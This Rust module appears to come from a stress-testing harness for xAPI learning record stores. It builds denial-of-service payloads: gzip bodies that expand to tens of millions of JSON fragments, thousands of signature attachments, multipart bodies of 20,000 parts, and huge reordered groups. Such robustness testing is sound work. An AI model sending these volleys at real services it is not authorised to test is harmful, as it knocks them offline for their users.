//! Statements that cost more than they weigh.

use std::fmt::Write as _;

use anyhow::Result;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use uuid::Uuid;

use super::request::Request;
use super::target::{ORDINARY, Target, Volley};

const JSON: &str = "application/json";
const BOUNDARY: &str = "attack-boundary";
pub(super) const VERB: &str = "https://v.example/did";
const SIGNATURE: &str = "http://adlnet.gov/expapi/attachments/signature";

pub(super) fn post() -> Request {
    Request::xapi("POST", "statements").by(ORDINARY)
}

/// A statement of an activity whose definition has so many bytes.
pub(super) fn activity_with_extension(activity: &str, bytes: usize) -> String {
    let extension = "x".repeat(bytes);
    format!(
        r#"{{"actor":{{"mbox":"mailto:a@example.org"}},"verb":{{"id":"{VERB}"}},"object":{{"id":"{activity}","definition":{{"extensions":{{"https://e.example/x":"{extension}"}}}}}}}}"#
    )
}

pub(super) fn statement() -> Value {
    json!({
        "actor": {"mbox": "mailto:a@example.org"},
        "verb": {"id": VERB},
        "object": {"id": "https://a.example/activity"},
    })
}

fn with(mut statement: Value, key: &str, value: Value) -> Value {
    if let Some(members) = statement.as_object_mut() {
        members.insert(key.to_owned(), value);
    }
    statement
}

pub(super) fn sha2(body: &[u8]) -> String {
    let mut text = String::new();
    for byte in Sha256::digest(body) {
        let _ = write!(text, "{byte:02x}");
    }
    text
}

/// A multipart body of statements and the data of their attachments.
pub(super) fn multipart(statements: &str, attachments: &[(&str, &[u8])]) -> Vec<u8> {
    let mut body = format!("--{BOUNDARY}\r\nContent-Type: {JSON}\r\n\r\n{statements}").into_bytes();
    for (sha2, data) in attachments {
        let head = format!(
            "\r\n--{BOUNDARY}\r\nContent-Type: application/octet-stream\r\n\
             Content-Transfer-Encoding: binary\r\nX-Experience-API-Hash: {sha2}\r\n\r\n"
        );
        body.extend(head.as_bytes());
        body.extend(*data);
    }
    body.extend(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

pub(super) fn mixed() -> String {
    format!("multipart/mixed; boundary={BOUNDARY}")
}

/// What a statement says of an attachment.
pub(super) fn attachment(usage: &str, sha2: &str, length: usize) -> Value {
    json!({
        "usageType": usage, "display": {"en": "x"}, "contentType": "application/octet-stream",
        "length": length, "sha2": sha2,
    })
}

/// Each attachment names the one part, a signature of the statement.
pub(super) fn signatures(target: &Target) -> Result<Volley> {
    let encode = |text: &str| URL_SAFE_NO_PAD.encode(text);
    let header = encode(r#"{"alg":"RS256"}"#);
    let signature = format!("{header}.{}.{}", encode(&statement().to_string()), encode("none"));
    let named = attachment(SIGNATURE, &sha2(signature.as_bytes()), signature.len());
    let signed = with(statement(), "attachments", vec![named; 6000].into());
    let body =
        multipart(&signed.to_string(), &[(&sha2(signature.as_bytes()), signature.as_bytes())]);
    Ok(target.repeat(1, post().gzip(&mixed(), &[(&body, 1)])?.bytes()))
}

/// The order of a group's members says nothing: the statement is the same, and is told so again and again.
pub(super) async fn reversed_group(target: Target) -> Result<Volley> {
    let mut members: Vec<Value> = (0..19_990)
        .map(|number| json!({"mbox": format!("mailto:member-{number}@example.org")}))
        .collect();
    let id = Uuid::new_v4();
    let group = |members: &[Value]| {
        let group = json!({"objectType": "Group", "member": members});
        with(with(statement(), "actor", group), "id", id.to_string().into()).to_string()
    };
    target.set_up(post().body(JSON, group(&members))).await?;
    members.reverse();
    Ok(target.repeat(1, post().body(JSON, group(&members)).bytes()))
}

/// None of them is a statement.
pub(super) fn numbers(target: &Target) -> Result<Volley> {
    Ok(target.repeat(2, post().gzip(JSON, &[(b"[1", 1), (b",1", 31_000_000), (b"]", 1)])?.bytes()))
}

/// One valid statement.
pub(super) fn empty_lists(target: &Target) -> Result<Volley> {
    let extensions = json!({"extensions": {"https://e.example/x": []}});
    let text = with(statement(), "result", extensions).to_string();
    let at = text.rfind("[]").unwrap_or_default();
    let (before, after) = text.split_at(at + 1);
    let parts = [(before.as_bytes(), 1), (b"[]", 1), (b",[]", 20_000_000), (after.as_bytes(), 1)];
    Ok(target.repeat(1, post().gzip(JSON, &parts)?.bytes()))
}

/// Each attachment has its own part.
pub(super) fn many_parts(target: &Target) -> Volley {
    let data: Vec<String> = (0..20_000).map(|number: u32| number.to_string()).collect();
    let hashes: Vec<String> = data.iter().map(|data| sha2(data.as_bytes())).collect();
    let named: Vec<Value> = hashes
        .iter()
        .zip(&data)
        .map(|(sha2, data)| attachment("https://u.example/file", sha2, data.len()))
        .collect();
    let parts: Vec<(&str, &[u8])> =
        hashes.iter().map(String::as_str).zip(data.iter().map(String::as_bytes)).collect();
    let body = multipart(&with(statement(), "attachments", named.into()).to_string(), &parts);
    target.repeat(1, post().body(&mixed(), body).bytes())
}

/// Two targets, each of which many statements that are kept already refer to.
pub(super) async fn references(target: Target) -> Result<Volley> {
    let targets = [Uuid::new_v4(), Uuid::new_v4()];
    for id in targets {
        let reference =
            with(statement(), "object", json!({"objectType": "StatementRef", "id": id}));
        let batch = Value::from(vec![reference; 500]).to_string();
        for _ in 0..6 {
            target.set_up(post().body(JSON, batch.clone())).await?;
        }
    }
    let arrivals = targets.map(|id| {
        let activities: Vec<Value> = (0..4900)
            .map(|number| json!({"id": format!("https://a.example/{id}/{number}")}))
            .collect();
        let context = json!({"contextActivities": {"grouping": activities}});
        let arrival = with(with(statement(), "id", id.to_string().into()), "context", context);
        post().body(JSON, arrival.to_string()).bytes()
    });
    Ok(Box::pin(async move {
        for arrival in arrivals {
            target.fire(&arrival).await;
        }
    }))
}

/// Each batch has 60 statements of 9 KiB, of one activity.
pub(super) async fn definitions(target: Target) -> Result<Volley> {
    const ACTIVITY: &str = "https://a.example/large";
    target.set_up(post().body(JSON, activity_with_extension(ACTIVITY, 4 << 20))).await?;
    Ok(target.repeat_all(1, |number| {
        let change = |n: u64| {
            let name = format!("{n:09}").repeat(1000);
            json!({
                "actor": {"mbox": "mailto:a@example.org"}, "verb": {"id": VERB},
                "object": {"id": ACTIVITY, "definition": {"name": {"en": name}}},
            })
        };
        let batch: Vec<Value> = (0..60).map(|n| change(number * 60 + n)).collect();
        post().body(JSON, Value::from(batch).to_string()).bytes()
    }))
}
